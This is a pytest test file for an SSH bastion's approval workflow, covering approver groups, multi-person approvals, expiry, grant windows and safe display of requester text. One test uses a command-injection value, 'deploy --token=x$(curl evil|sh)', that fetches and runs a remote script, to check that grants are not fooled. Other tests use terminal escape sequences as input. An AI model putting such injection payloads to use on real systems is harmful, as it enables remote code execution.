"""Approvals with a real store: who may decide, N of M, denials, expiry, withdrawal, waking waiters, grants."""

from __future__ import annotations

import asyncio
import getpass
import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import asyncssh
import pytest
from click.testing import CliRunner

from bastion import config as config_mod
from bastion.cli.approvals import approvals as approvals_cli
from bastion.cli.main import main
from bastion.control.actions import Decision, Exec, Forward, McpTool, ShellLine, Subject, action_key
from bastion.control.approval_queue import Approvals
from bastion.control.approvals import ApprovalError, ApprovalRequest
from bastion.control.approver_commands import approvals_command
from bastion.control.config import ApprovalSettings, Rule
from bastion.control.grant_key import GrantKey
from bastion.control.policy import Policy
from bastion.storage import SqliteStore as Store

ALICE = Subject("alice", ("ops",), "prod1", {"env": "prod"}, "mcp")
RESTART = Exec("systemctl restart mcp")
KEY = GrantKey(b"k" * 32)  # what `bastion serve` loads from state/grant.key


class Clock:
    """A clock the test moves."""

    def __init__(self) -> None:
        self.now = 1_000_000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    store = Store(tmp_path / "bastion.db", flush_interval=0.01)
    yield store
    store.close()


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def queue(store: Store, clock: Clock) -> Iterator[Approvals]:
    approvals = Approvals(store, ApprovalSettings(timeout="10m", approver_groups=("sre",)), clock=clock, grant_key=KEY)
    yield approvals


def approve_decision(
    approvals: int = 1, approvers: tuple[str, ...] = ("leads",), grant: float | None = None
) -> Decision:
    return Decision("approve", "restart", "needs approval", ("restart",), approvers, approvals, grant)


def request(queue: Approvals, **kwargs: Any) -> ApprovalRequest:
    return queue.create(ALICE, RESTART, approve_decision(**kwargs), source="conn-1", reason="deploying a fix")


def test_a_request_records_who_what_where_and_why(queue: Approvals, clock: Clock) -> None:
    created = request(queue)
    assert created.id == 1 and request(queue).id == 2
    got = queue.get(1)
    assert got == created
    assert (got.requester, got.groups, got.source, got.host, got.login) == ("alice", ("ops",), "conn-1", "prod1", "mcp")
    assert (got.kind, got.action, got.rule, got.required, got.approvers) == (
        "exec",
        "systemctl restart mcp",
        "restart",
        1,
        ("leads",),
    )
    assert (got.reason, got.created, got.expires, got.status) == (
        "deploying a fix",
        clock.now,
        clock.now + 600,
        "pending",
    )


def test_self_approval_is_refused(queue: Approvals) -> None:
    created = request(queue)
    with pytest.raises(ApprovalError, match="nobody approves or denies their own request; request 1 is alice's"):
        queue.decide("alice", ("leads",), created.id, True)
    with pytest.raises(ApprovalError, match="their own request"):
        queue.decide("operator:alice", (), created.id, True, operator=True)
    assert queue.get(created.id).status == "pending"  # type: ignore[union-attr]


def test_only_members_of_the_approver_groups_decide(queue: Approvals) -> None:
    created = request(queue)
    with pytest.raises(ApprovalError, match="bob may not decide request 1: approvers are members of leads"):
        queue.decide("bob", ("ops",), created.id, True)
    assert queue.decide("carol", ("ops", "leads"), created.id, True).status == "approved"


def test_approver_groups_are_the_fallback_when_the_rule_names_none(queue: Approvals) -> None:
    created = request(queue, approvers=())
    assert created.approvers == ("sre",)
    with pytest.raises(ApprovalError, match="approvers are members of sre"):
        queue.decide("bob", ("leads",), created.id, True)
    assert queue.decide("sam", ("sre",), created.id, True).approved


def test_no_approvers_anywhere_is_an_error(store: Store) -> None:
    queue = Approvals(store)
    with pytest.raises(
        ApprovalError, match="rule restart has no approvers and \\[approvals\\] approver_groups is empty"
    ):
        request(queue, approvers=())


def test_n_approvals_from_different_people(queue: Approvals) -> None:
    created = request(queue, approvals=2)
    first = queue.decide("bob", ("leads",), created.id, True, "looks fine")
    assert first.status == "pending" and first.approved_by == ("bob",)
    with pytest.raises(ApprovalError, match="bob has already approved request 1; it needs 1 more from other people"):
        queue.decide("bob", ("leads",), created.id, True)
    assert queue.get(created.id).approved_by == ("bob",)  # type: ignore[union-attr]
    second = queue.decide("carol", ("leads",), created.id, True)
    assert second.status == "approved" and second.approved_by == ("bob", "carol")
    with pytest.raises(ApprovalError, match="request 1 is already approved"):
        queue.decide("dave", ("leads",), created.id, True)


def test_a_denial_needs_a_reason_and_one_is_enough(queue: Approvals) -> None:
    created = request(queue, approvals=3)
    queue.decide("bob", ("leads",), created.id, True)
    with pytest.raises(ApprovalError, match="a denial needs a reason: deny 1 --reason"):
        queue.decide("carol", ("leads",), created.id, False, "  ")
    denied = queue.decide("carol", ("leads",), created.id, False, "change freeze")
    assert denied.status == "denied"
    assert [(v.approver, v.approve, v.reason) for v in denied.votes] == [
        ("bob", True, ""),
        ("carol", False, "change freeze"),
    ]


def test_an_unknown_request(queue: Approvals) -> None:
    with pytest.raises(ApprovalError, match="no approval request 42; see: approvals list"):
        queue.decide("bob", ("leads",), 42, True)
    assert queue.get(42) is None


def test_a_request_not_decided_in_time_expires(queue: Approvals, clock: Clock) -> None:
    first, second = request(queue), request(queue)
    clock.now += 599
    assert queue.expire_due() == []
    assert [r.id for r in queue.list()] == [1, 2]
    clock.now += 1
    assert [r.id for r in queue.list()] == []  # past its expiry: no longer pending, even before expire_due
    with pytest.raises(ApprovalError, match="request 1 expired before it was decided"):
        queue.decide("bob", ("leads",), first.id, True)
    assert queue.get(first.id).status == "expired"  # type: ignore[union-attr]
    assert queue.expire_due() == [second.id]
    assert queue.get(second.id).status == "expired"  # type: ignore[union-attr]
    assert [r.id for r in queue.list(pending_only=False)] == [2, 1]


def test_withdraw(queue: Approvals, store: Store) -> None:
    created = request(queue)
    queue.withdraw(created.id)
    store.flush()
    assert queue.get(created.id).status == "withdrawn"  # type: ignore[union-attr]
    with pytest.raises(ApprovalError, match="request 1 is already withdrawn"):
        queue.decide("bob", ("leads",), created.id, True)
    queue.withdraw(created.id)  # a second time: nothing happens
    store.flush()
    assert len(store.audit_log("approval.withdraw")) == 1


def test_every_change_is_in_the_audit_log(queue: Approvals, store: Store, clock: Clock) -> None:
    one, two, three = request(queue, approvals=2), request(queue), request(queue)
    queue.decide("bob", ("leads",), one.id, True, "ok")
    queue.decide("carol", ("leads",), two.id, False, "no")
    queue.withdraw(three.id)
    clock.now += 601
    queue.expire_due()
    store.flush()
    entries = [(e["type"], e["fields"]["id"]) for e in store.audit_log() if e["type"].startswith("approval.")]
    assert entries == [
        ("approval.create", 1),
        ("approval.create", 2),
        ("approval.create", 3),
        ("approval.approve", 1),
        ("approval.deny", 2),
        ("approval.withdraw", 3),
        ("approval.expire", 1),
    ]
    create = store.audit_log("approval.create")[0]["fields"]
    assert (
        create["requester"] == "alice" and create["action"] == "systemctl restart mcp" and create["rule"] == "restart"
    )
    assert store.audit_log("approval.deny")[0]["fields"] == {
        "id": 2,
        "approver": "carol",
        "reason": "no",
        "status": "denied",
    }


def test_a_grant_window_lets_the_same_action_pass(queue: Approvals, clock: Clock) -> None:
    created = request(queue, grant=900.0)
    assert not queue.granted(ALICE, queue.key_of(RESTART))
    queue.decide("bob", ("leads",), created.id, True)
    assert queue.granted(ALICE, queue.key_of(RESTART))
    assert queue.granted(ALICE, queue.key_of(ShellLine("systemctl restart mcp")))  # the same command typed in a shell
    assert not queue.granted(ALICE, queue.key_of(Exec("systemctl restart db")))
    assert not queue.granted(Subject("mallory", ("ops",), "prod1", {}, "mcp"), queue.key_of(RESTART))
    assert not queue.granted(Subject("alice", ("ops",), "prod2", {}, "mcp"), queue.key_of(RESTART))
    assert not queue.granted(Subject("alice", ("ops",), "prod1", {}, "root"), queue.key_of(RESTART))
    clock.now += 899
    assert queue.granted(ALICE, queue.key_of(RESTART))
    clock.now += 1
    assert not queue.granted(ALICE, queue.key_of(RESTART))


def test_without_a_grant_an_approval_covers_one_action(queue: Approvals) -> None:
    created = request(queue)
    queue.decide("bob", ("leads",), created.id, True)
    assert not queue.granted(ALICE, queue.key_of(RESTART))


def test_a_policy_decision_becomes_a_request() -> None:
    rules = [
        Rule(name="tools", effect="approve", mcp_tools=("write_*",), approvers=("leads",), approvals=2, grant="1h")
    ]
    decision = Policy(rules).decide(ALICE, McpTool("write_file", {"path": "/etc/x"}))
    assert (decision.effect, decision.approvers, decision.approvals, decision.grant) == (
        "approve",
        ("leads",),
        2,
        3600.0,
    )


def test_only_approve_decisions_are_held(queue: Approvals) -> None:
    with pytest.raises(ValueError, match="only an approve decision"):
        queue.create(ALICE, Forward(8000), Decision("allow", "x", ""))


# Waiting.
def test_wait_wakes_at_once_on_a_decision_in_this_process(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    """A decision taken in this process wakes the waiter itself: with polling made hourly, only that can wake it."""
    monkeypatch.setattr("bastion.control.approval_queue.POLL_INTERVAL", 3600.0)
    queue = Approvals(store, ApprovalSettings(approver_groups=("leads",)), grant_key=KEY)
    created = request(queue)

    async def scenario() -> ApprovalRequest:
        waiting = asyncio.create_task(queue.wait(created.id))
        await asyncio.sleep(0)  # the waiter reads the pending request and waits
        assert not waiting.done()
        decided = await asyncio.to_thread(queue.decide, "bob", ("leads",), created.id, True)
        assert decided.approved
        return await asyncio.wait_for(waiting, 30)  # a hang guard: the poll would take an hour

    assert asyncio.run(scenario()).status == "approved"


def test_wait_wakes_on_a_decision_in_another_process(store: Store) -> None:
    """Another process (the CLI, the TUI) decides: the waiter's poll of the store sees it, while that process
    still has the database open."""
    queue = Approvals(store, ApprovalSettings(approver_groups=("leads",)), grant_key=KEY)
    created = request(queue)
    script = f"""
import sys
from pathlib import Path
from bastion.control.approval_queue import Approvals
from bastion.storage import SqliteStore as Store
store = Store(Path({str(store.path)!r}))
approvals = Approvals(store)
approvals.decide("bob", ("leads",), {created.id}, False, "not now")
print("decided", flush=True)
sys.stdin.read()  # stay up until the test is done: the waiter must not depend on this process closing the database
store.close()
"""

    async def scenario() -> tuple[ApprovalRequest, bytes]:
        waiting = asyncio.create_task(queue.wait(created.id))
        child = await asyncio.create_subprocess_exec(
            sys.executable,
            "-c",
            script,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            cwd=str(Path(__file__).parent.parent),
        )
        assert child.stdin is not None and child.stdout is not None
        said = await child.stdout.readline()
        outcome = await asyncio.wait_for(waiting, 30)  # a hang guard
        child.stdin.close()
        await child.wait()
        return outcome, said

    outcome, said = asyncio.run(scenario())
    assert said == b"decided\n"
    assert outcome.status == "denied" and outcome.votes[0].reason == "not now"


def test_wait_returns_expired_when_nobody_decides(store: Store, clock: Clock) -> None:
    queue = Approvals(store, ApprovalSettings(timeout="400ms", approver_groups=("leads",)), clock=clock, grant_key=KEY)
    created = request(queue)

    async def scenario() -> ApprovalRequest:
        waiting = asyncio.create_task(queue.wait(created.id))
        await asyncio.sleep(0)
        assert not waiting.done() and queue.get(created.id).status == "pending"  # type: ignore[union-attr]
        clock.now += 0.4  # the request's time is up
        return await asyncio.wait_for(waiting, 30)  # the next poll expires it

    assert asyncio.run(scenario()).status == "expired"
    store.flush()
    assert [e["fields"]["id"] for e in store.audit_log("approval.expire")] == [created.id]


def test_wait_returns_withdrawn(store: Store) -> None:
    queue = Approvals(store, ApprovalSettings(approver_groups=("leads",)), grant_key=KEY)
    created = request(queue)

    async def scenario() -> ApprovalRequest:
        waiting = asyncio.create_task(queue.wait(created.id))
        await asyncio.sleep(0)
        queue.withdraw(created.id)
        return await asyncio.wait_for(waiting, 2)

    assert asyncio.run(scenario()).status == "withdrawn"


def test_create_async(store: Store) -> None:
    queue = Approvals(store, ApprovalSettings(approver_groups=("leads",)), grant_key=KEY)
    created = asyncio.run(queue.create_async(ALICE, RESTART, approve_decision()))
    assert queue.get(created.id) == created


# Listing and the approvers' commands.
def test_listings_show_requester_text_safely(queue: Approvals) -> None:
    queue.create(ALICE, Exec("ls\x1b[2J\x1b]0;owned\x07 -la"), approve_decision(), reason="\x1b[31mtrust me\nplease")
    shown = queue.list()[0].display()
    assert shown["action"] == "ls␛[2J␛]0;owned\\x07 -la" and shown["reason"] == "␛[31mtrust me⏎please"
    status, text = approvals_command(["approvals", "list"], "bob", ("leads",), queue)
    assert status == 0 and "\x1b" not in text and "\x07" not in text and "owned" in text


def test_one_person_is_one_approver_over_ssh_and_as_operator(queue: Approvals) -> None:
    request(queue, approvals=2)
    queue.decide("bob", ("leads",), 1, True)
    with pytest.raises(ApprovalError, match="already approved"):
        queue.decide("operator:bob", (), 1, True, operator=True)


def test_approvals_command_over_ssh(queue: Approvals) -> None:
    request(queue, approvals=2)
    queue.create(Subject("bob", (), "prod1", {}, "mcp"), RESTART, approve_decision())
    status, text = approvals_command(["approvals", "list"], "bob", ("leads",), queue)
    assert status == 0
    assert text.startswith("#1 alice on mcp@prod1, rule restart, 0/2 approvals, waited 0s: exec: systemctl restart mcp")
    assert "#2" not in text  # bob's own request is not his to decide
    assert approvals_command(["list"], "eve", ("ops",), queue) == (0, "no pending approval requests")
    status, text = approvals_command(["approve", "1", "--reason", "ok"], "bob", ("leads",), queue)
    assert (status, text) == (0, "request 1: approval recorded (1/2); it needs 1 more")
    assert approvals_command(["approvals", "approve", "#1"], "carol", ("leads",), queue) == (
        0,
        "request 1 approved; alice's exec goes ahead",
    )
    assert approvals_command(["deny", "2"], "carol", ("leads",), queue) == (
        1,
        "bastion: a denial needs a reason: deny 2 --reason '...'",
    )
    assert approvals_command(["deny", "2", "--reason=no"], "carol", ("leads",), queue) == (0, "request 2 denied: no")
    assert approvals_command(["approve", "1"], "eve", ("ops",), queue)[0] == 1
    listing = json.loads(approvals_command(["list", "--all", "--json"], "carol", ("leads",), queue)[1])
    assert [(r["id"], r["status"], r["approvals"]) for r in listing] == [(2, "denied", "0/1"), (1, "approved", "2/2")]


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["approve"], "expected a command"),
        (["approve", "x"], "expected a request number such as 3, got 'x'"),
        (["deny", "1", "--reason"], "--reason: expected a value"),
        (["list", "--force"], "unknown option '--force'"),
        (["rm", "-rf"], "unknown option '-rf'"),
        (["shutdown"], "expected a command, got 'shutdown'"),
    ],
)
def test_approvals_command_usage_errors(queue: Approvals, argv: list[str], message: str) -> None:
    status, text = approvals_command(argv, "bob", ("leads",), queue)
    assert status == 2
    assert message in text.splitlines()[0] and text.splitlines()[1].startswith("usage: approvals list")


# `bastion approvals` on the bastion host.
@pytest.fixture
def config(tmp_path: Path) -> Path:
    key = asyncssh.generate_private_key("ssh-ed25519").export_public_key().decode().strip()
    path = tmp_path / "bastion.toml"
    path.write_text(
        f'[server]\nstate_dir = "state"\n\n[approvals]\napprover_groups = ["leads"]\ntimeout = "5m"\n\n'
        f'[[hosts]]\nname = "prod1"\naddress = "10.0.0.5:22"\nlogins = ["mcp"]\nhost_key = "{key}"\n'
    )
    return path


def seed(config: Path, count: int) -> None:
    settings = config_mod.load(config)
    store = Store(settings.server.database_path)
    queue = Approvals(store, settings.approvals, grant_key=KEY)  # type: ignore[attr-defined]
    for _ in range(count):
        queue.create(ALICE, RESTART, approve_decision(approvers=()))
    store.close()


def test_operator_commands(config: Path) -> None:
    seed(config, 2)
    runner = CliRunner()
    listing = runner.invoke(approvals_cli, ["list", "-c", str(config)])
    assert listing.exit_code == 0 and listing.output.count("alice on mcp@prod1") == 2
    result = runner.invoke(approvals_cli, ["approve", "-c", str(config), "1"])
    assert (result.exit_code, result.output) == (0, "request 1 approved; alice's exec goes ahead\n")
    result = runner.invoke(approvals_cli, ["deny", "-c", str(config), "2"])
    assert result.exit_code == 2 and "Missing option '--reason'" in result.output
    result = runner.invoke(approvals_cli, ["deny", "-c", str(config), "2", "--reason", "no"])
    assert result.exit_code == 0
    result = runner.invoke(approvals_cli, ["deny", "-c", str(config), "2", "--reason", "again"])
    assert (result.exit_code, result.output) == (1, "bastion: request 2 is already denied\n")
    rows = json.loads(runner.invoke(approvals_cli, ["list", "-c", str(config), "--all", "--json"]).output)
    assert [(r["id"], r["status"], r["votes"][0]["approver"]) for r in rows] == [
        (2, "denied", "operator:" + getpass.getuser()),
        (1, "approved", "operator:" + getpass.getuser()),
    ]
    settings = config_mod.load(config)
    assert settings.approvals.timeout == 300.0  # type: ignore[attr-defined]


def test_a_grant_is_keyed_on_the_command_as_typed_not_as_shown(queue: Approvals) -> None:
    masked = Exec("deploy --token=[masked:secret]")
    typed, other = Exec("deploy --token=abc"), Exec("deploy --token=x$(curl evil|sh)")
    decision = approve_decision(grant=900.0)
    first = queue.create(ALICE, masked, decision, key=queue.key_of(typed))
    queue.decide("bob", ("leads",), first.id, True)
    assert queue.granted(ALICE, queue.key_of(typed))
    assert not queue.granted(ALICE, queue.key_of(other))  # masks the same way, runs something else: not covered
    assert not queue.granted(ALICE, queue.key_of(masked))


def test_a_requester_who_leaves_while_the_request_is_being_stored_still_withdraws_it(queue: Approvals) -> None:
    """The gate's wait is cancelled while the store is still writing the request: once written, it is withdrawn."""
    from types import SimpleNamespace

    from bastion.control.gate import Gate

    stored = queue.create_async
    creating: list[asyncio.Task[Any]] = []
    started, release = asyncio.Event(), asyncio.Event()

    async def slow_create(*args: Any, **kwargs: Any) -> ApprovalRequest:
        creating.append(asyncio.current_task())  # type: ignore[arg-type]
        started.set()
        await release.wait()  # the requester leaves while the request is being stored
        return await stored(*args, **kwargs)

    policy = Policy([Rule(name="restart", effect="approve", exec=("systemctl *",), approvers=("leads",))])
    audited: list[str] = []
    ctx = SimpleNamespace(
        policy=policy, masker=None, audit=lambda type_, **fields: audited.append(type_),
        approvals=SimpleNamespace(granted=queue.granted, key_of=queue.key_of, create_async=slow_create,
                                  wait=queue.wait, withdraw=queue.withdraw),
    )  # fmt: skip

    async def run() -> None:
        check = asyncio.ensure_future(Gate(ctx, ALICE, "conn-1").check(RESTART, lambda line: None))  # type: ignore[arg-type]
        await started.wait()
        check.cancel()
        with pytest.raises(asyncio.CancelledError):
            await check
        release.set()
        await creating[0]  # stored; the gate's callback, registered first, has withdrawn it by now

    asyncio.run(run())
    queue.store.flush()
    assert [r.status for r in queue.list(pending_only=False, limit=10)] == ["withdrawn"]


def test_a_grant_key_is_a_keyed_hash_that_guesses_cannot_confirm(store: Store, tmp_path: Path) -> None:
    """The command as typed may hold a short password: its stored hash is keyed with a 0600 file's secret,
    so hashing guesses of the command finds nothing, and another installation's keys differ."""
    import hashlib
    import sqlite3

    grant_key = GrantKey.load(tmp_path)
    queue = Approvals(store, grant_key=grant_key)
    typed = Exec("mysql -u app -phunter2 -e 'select 1'")
    masked = Exec("mysql -u app -p[masked] -e 'select 1'")
    created = queue.create(ALICE, masked, approve_decision(), key=queue.key_of(typed))
    key_file = tmp_path / "grant.key"
    assert key_file.stat().st_mode & 0o777 == 0o600 and len(key_file.read_bytes()) == 32
    store.flush()
    stored = sqlite3.connect(store.path).execute("SELECT action_key FROM approval_requests WHERE id = ?", (created.id,))
    key = stored.fetchone()[0]
    assert key.startswith("hmac-sha256:") and "hunter2" not in key
    assert hashlib.sha256(action_key(typed).encode()).hexdigest() not in key
    elsewhere = tmp_path / "other"
    elsewhere.mkdir()
    assert GrantKey.load(elsewhere).of(typed) != key and GrantKey.load(tmp_path).of(typed) == key


def test_a_grant_key_file_readable_by_others_is_refused_in_one_line(tmp_path: Path) -> None:
    """`bastion serve` makes the key at start; a key others can read stops it with one line, no traceback."""
    from bastion.control.grant_key import load_grant_secret

    config = tmp_path / "bastion.toml"
    config.write_text(f'[server]\nstate_dir = "{tmp_path / "state"}"\nlisten = "127.0.0.1:1"\n')
    (tmp_path / "state").mkdir(mode=0o700)
    load_grant_secret(tmp_path / "state").hex()
    (tmp_path / "state" / "grant.key").chmod(0o644)
    result = CliRunner().invoke(main, ["serve", "-c", str(config)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert result.output.strip().endswith(
        "grant.key: the key is readable by others; run chmod 600 " + str(tmp_path / "state" / "grant.key")
    )


def test_approvers_commands_need_no_grant_key(store: Store, tmp_path: Path) -> None:
    """Approvers may run `bastion approvals` as another Unix user: listing and deciding never read the key."""
    queue = Approvals(store, grant_key=KEY)
    created = request(queue)
    approver = Approvals(store)
    approver.list()
    approver.decide("bob", ("leads",), created.id, True)
    assert not (tmp_path / "grant.key").exists()
